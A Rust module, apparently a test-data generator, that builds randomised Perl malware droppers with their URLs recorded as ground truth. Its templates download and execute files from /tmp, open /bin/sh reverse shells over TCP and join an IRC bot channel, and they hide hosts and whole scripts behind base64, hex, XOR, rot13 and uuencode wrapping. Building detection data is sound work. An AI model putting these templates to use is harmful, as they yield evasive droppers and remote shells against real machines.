//! Droppers in Perl.

use super::{Dice, Truth, base64, codes, hex, reversed, rot13, xored};
use std::fmt::Write;

const FILES: &[&str] = &["", ".pl", ".bin", ".txt", ".sh"];

/// An expression of which `text` is the value; `before` gets what must stand in front of it.
fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    match dice.below(14) {
        0 => format!("'{text}'"),
        1 => {
            let words: Vec<String> =
                dice.pieces(text).iter().map(|piece| format!("'{piece}'")).collect();
            format!("({})", words.join(" . "))
        }
        2 => format!("scalar(reverse('{}'))", reversed(text)),
        3 => format!("pack('H*', '{}')", hex(text.as_bytes())),
        4 => {
            before.push_str("use MIME::Base64;\n");
            format!("decode_base64('{}')", base64(text.as_bytes()))
        }
        5 => format!("join('', map {{ chr }} ({}))", codes(text.bytes(), ",")),
        6 => format!("join('', map {{ chr($_) }} qw({}))", codes(text.bytes(), " ")),
        7 => {
            let _ = writeln!(
                before,
                "my ${name} = '{}';\n${name} =~ tr/A-Za-z/N-ZA-Mn-za-m/;",
                rot13(text)
            );
            format!("${name}")
        }
        8 => {
            let mark = dice.mark(text);
            let littered = dice.littered(text, &mark);
            let _ = writeln!(before, "my ${name} = '{littered}';\n${name} =~ s/{mark}//g;");
            format!("${name}")
        }
        9 => {
            let key = dice.key();
            format!("join('', map {{ chr($_ ^ {key}) }} ({}))", codes(xored(text, key), ", "))
        }
        10 => {
            let words = dice.pieces(text);
            let holes = "%s".repeat(words.len());
            let words: Vec<String> = words.iter().map(|piece| format!("'{piece}'")).collect();
            format!("sprintf('{holes}', {})", words.join(", "))
        }
        11 => {
            let mut word = String::new();
            for piece in dice.pieces(text) {
                let name = dice.name();
                let _ = writeln!(before, "my ${name} = '{piece}';");
                let _ = write!(word, "${{{name}}}");
            }
            format!("\"{word}\"")
        }
        12 => {
            let escaped: String = text.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
            format!("\"{escaped}\"")
        }
        _ => {
            let pieces = dice.pieces(text);
            let words: Vec<String> = pieces.iter().map(|piece| format!("'{piece}'")).collect();
            let _ = writeln!(before, "my @{name} = ({});", words.join(", "));
            format!("join('', @{name})")
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut text = dice
        .pick(&["#!/usr/bin/perl\n", "#!/usr/bin/perl -w\nuse strict;\n", "#!/usr/bin/env perl\n"])
        .to_owned();
    for _ in 0..1 + dice.below(2) {
        let mut before = String::new();
        let line = delivery(dice, truth, &mut before);
        text.push_str(&before);
        text.push_str(&line);
        if super::ends(&line) {
            break;
        }
    }
    match dice.below(8) {
        0 => format!(
            "#!/usr/bin/perl\nuse MIME::Base64;\neval(decode_base64('{}'));\n",
            base64(text.as_bytes())
        ),
        1 => format!("#!/usr/bin/perl\neval pack('H*', '{}');\n", hex(text.as_bytes())),
        2 => format!("#!/usr/bin/perl\neval unpack u=>q{{{}}};\n", uuencoded(text.as_bytes())),
        3 => format!("#!/usr/bin/perl\nsub main {{\n{text}\n}}\nmain();\n"),
        _ => text,
    }
}

fn uuencoded(bytes: &[u8]) -> String {
    let letter = |value: u8| if value == 0 { '`' } else { char::from(value + 32) };
    let mut out = String::new();
    for line in bytes.chunks(45) {
        out.push(letter(line.len() as u8));
        for three in line.chunks(3) {
            let at = |index: usize| three.get(index).copied().unwrap_or(0);
            let (a, b, c) = (at(0), at(1), at(2));
            for value in [a >> 2, (a << 4 | b >> 4) & 63, (b << 2 | c >> 6) & 63, c & 63] {
                // Braces would end the quote, a backslash would be an escape.
                out.push(letter(value));
            }
        }
        out.push('\n');
    }
    out.replace('\\', "\\\\")
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = format!("/tmp/.{}", dice.name());
    let var = dice.name();
    match dice.below(14) {
        0 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "use LWP::Simple;\ngetstore({url}, '{file}');\nchmod 0755, '{file}';\nsystem('{file}');\n"
            )
        }
        1 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "use LWP::Simple;\nmy ${var} = get({url});\nopen(my $fh, '>', '{file}');\nprint $fh ${var};\nclose($fh);\nsystem(\"perl {file}\");\n"
            )
        }
        2 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "use LWP::UserAgent;\nmy ${var} = LWP::UserAgent->new;\n${var}->agent('Mozilla/5.0');\n${var}->timeout(10);\nmy $res{var} = ${var}->get({url});\nif ($res{var}->is_success) {{ eval $res{var}->decoded_content; }}\n"
            )
        }
        3 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "my ${var} = {url};\nsystem(\"wget -q ${var} -O {file}; chmod 777 {file}; {file}\");\n"
            )
        }
        4 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!("my ${var} = {url};\nmy $out{var} = `curl -s ${var}`;\neval $out{var};\n")
        }
        5 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, before);
            format!(
                "use IO::Socket::INET;\nmy ${var} = IO::Socket::INET->new(PeerAddr => {host}, PeerPort => {port}, Proto => 'tcp');\nexit unless ${var};\nopen(STDIN, '<&', ${var});\nopen(STDOUT, '>&', ${var});\nexec('/bin/sh', '-i');\n"
            )
        }
        6 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, before);
            format!(
                "use Socket;\nmy ${var} = {host};\nmy $port{var} = {port};\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nif (connect(S, sockaddr_in($port{var}, inet_aton(${var})))) {{\n  open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S');\n  exec('/bin/sh -i');\n}}\n"
            )
        }
        7 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "use HTTP::Tiny;\nmy ${var} = HTTP::Tiny->new(timeout => 20);\n${var}->mirror({url}, '{file}');\nchmod(0755, '{file}');\nexec '{file}';\n"
            )
        }
        8 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, before);
            format!(
                "use IO::Socket;\nmy $server{var} = {host};\nmy $port{var} = '{port}';\nmy @chans{var} = ('#{var}');\nmy ${var} = IO::Socket::INET->new(PeerAddr => \"$server{var}:$port{var}\", Proto => 'tcp', Timeout => 10) or die 'no server';\nprint ${var} \"NICK {var}\\r\\nUSER a b c d\\r\\n\";\nwhile (my $line = <${var}>) {{\n  if ($line =~ /^PING (.*)/) {{ print ${var} \"PONG $1\\r\\n\"; }}\n}}\n"
            )
        }
        9 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "my ${var} = {url};\nopen(my $p{var}, '-|', \"curl -fsSL ${var}\") or die;\nmy @lines{var} = <$p{var}>;\nclose($p{var});\n"
            )
        }
        10 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!("my @{var} = ('wget', '-q', '-O', '{file}', {url});\nsystem(@{var});\n")
        }
        11 => {
            let host = dice.host();
            let files: Vec<String> = (0..2 + dice.below(3)).map(|_| dice.name()).collect();
            for file in &files {
                truth.urls.insert(format!("http://{host}/{file}"));
            }
            let host = hide(dice, &host, before);
            format!(
                "my ${var} = {host};\nforeach my $f (qw({})) {{\n  system(\"wget http://${var}/$f -O /tmp/$f || curl -o /tmp/$f http://${var}/$f\");\n}}\n",
                files.join(" ")
            )
        }
        12 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "sub {var} {{\n  my ($u, $f) = @_;\n  my $c = \"curl -o $f $u 2>/dev/null\";\n  return qx/$c/;\n}}\n{var}({url}, '{file}');\n"
            )
        }
        _ => {
            let url = truth.url(dice, &[".sh"]);
            let url = hide(dice, &url, before);
            format!(
                "my %{var} = (url => {url}, dir => '/tmp');\nchdir ${var}{{dir}};\nif (!-e 'x.sh') {{\n  `wget ${var}{{url}} -O x.sh`;\n}}\nunless (fork()) {{ exec(\"sh x.sh\"); }}\n"
            )
        }
    }
}
